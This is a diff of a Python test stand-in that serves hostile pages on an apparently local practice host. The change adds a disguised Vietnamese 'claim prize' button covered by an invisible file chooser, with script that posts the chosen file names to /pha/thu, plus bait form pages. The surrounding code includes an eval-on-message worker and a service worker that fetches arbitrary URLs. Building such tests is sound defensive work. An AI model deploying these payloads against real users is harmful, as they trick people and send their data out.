@@ -1,4 +1,4 @@
-"""The hostile page: an allowed host that has fallen into the wrong hands, and the host to which it wants to get out."""
+"""The hostile page: an allowed host in the wrong hands, and the host to which it wants to get out."""
 
 from __future__ import annotations
 
@@ -6,6 +6,7 @@ import html
 from typing import TYPE_CHECKING
 
 from tests.portal.standins.abuses import ABUSES, Abuse
+from tests.portal.standins.baits import BAITS, HONEST
 from tests.portal.standins.web import NOT_FOUND, Request, Response, page, redirect
 
 if TYPE_CHECKING:
@@ -13,12 +14,22 @@ if TYPE_CHECKING:
 
 PLACE = "/pha/"
 """Below this path any practice host is hostile."""
+FORM = '<!doctype html><html lang="vi"><meta charset="utf-8"><title>Tờ khai</title><h2>Tờ khai</h2>'
+COVERED = (
+    '<!doctype html><html lang="vi"><meta charset="utf-8"><title>Trúng thưởng</title>'
+    '<div style="position: relative; height: 160px"><button style="width: 100%; height: 160px">Nhận quà</button>'
+    '<input id="file" type="file" multiple style="position: absolute; inset: 0; height: 160px; opacity: 0"></div>'
+    "<script>const f = document.getElementById('file'); f.onchange = () => fetch('/pha/thu', { method: 'POST',"
+    " body: [...f.files].map(each => each.name).join() })</script>"
+)
+"""A button with a chooser of files over it that nobody sees."""
 OPEN = (("Access-Control-Allow-Origin", "*"), ("Cache-Control", "no-store"))
 WORKER = "importScripts === undefined || 0; onmessage = m => { eval(m.data) };"
 SERVICE = (
     "self.addEventListener('install', () => self.skipWaiting());"
     "self.addEventListener('activate', event => event.waitUntil(clients.claim()));"
-    "self.addEventListener('message', event => event.waitUntil(fetch(event.data, { mode: 'no-cors' }).catch(() => 0)));"
+    "self.addEventListener('message', event =>"
+    " event.waitUntil(fetch(event.data, { mode: 'no-cors' }).catch(() => 0)));"
 )
 
 
@@ -34,6 +45,8 @@ def answer(portals: Portals, request: Request) -> Response:
         case "tai-ve":
             headers = (("Content-Disposition", 'attachment; filename="bien-nhan.pdf"'),)
             return Response(body=b"%PDF-1.4 practice", content_type="application/pdf", headers=headers)
+        case "nut-che":
+            return page(COVERED)
         case "trong":
             return page("<!doctype html><meta charset=utf-8><title>Trang trống</title><p>Trang trống</p>")
         case "thu" if request.method == "POST":
@@ -42,6 +55,9 @@ def answer(portals: Portals, request: Request) -> Response:
     for abuse in ABUSES:
         if request.path == PLACE + abuse.name:
             return _page(portals, abuse)
+    for bait in BAITS:
+        if request.path == f"{PLACE}moi/{bait.name}":
+            return page(f"{FORM}{'' if bait.alone else HONEST}{bait.body}")
     return NOT_FOUND
 
 
@@ -55,11 +71,14 @@ def _page(portals: Portals, abuse: Abuse) -> Response:
     port = portals.server.port
     text = (
         f'<!doctype html><html lang="vi"><meta charset="utf-8"><title>{abuse.name}</title>{abuse.head}'
-        '<style>#tap { display: block; width: 100%; height: 160px; font-size: 30px; }</style>'
+        "<style>#tap { display: block; width: 100%; height: 160px; font-size: 30px; }</style>"
         f'<body><button id="tap">Tiếp tục</button>{abuse.body}<script>'
-        f'const PORT = {port}; const tries = () => {{ try {{ {abuse.script} }} catch (error) {{ window.R = String(error); }} }};'
+        f"const PORT = {port};"
+        f"const tries = () => {{ try {{ {abuse.script} }} catch (error) {{ window.R = String(error); }} }};"
         "document.getElementById('tap').addEventListener('click', tries);"
         f"{'tries();' if abuse.on_load else ''}"
         "</script></body></html>"
     )
-    return page(text, headers=(*abuse.headers, ("X-Name", html.escape(abuse.name).encode("ascii", "ignore").decode())))
+    return page(
+        text, headers=(*abuse.headers, ("X-Name", html.escape(abuse.name).encode("ascii", "ignore").decode()))
+    )
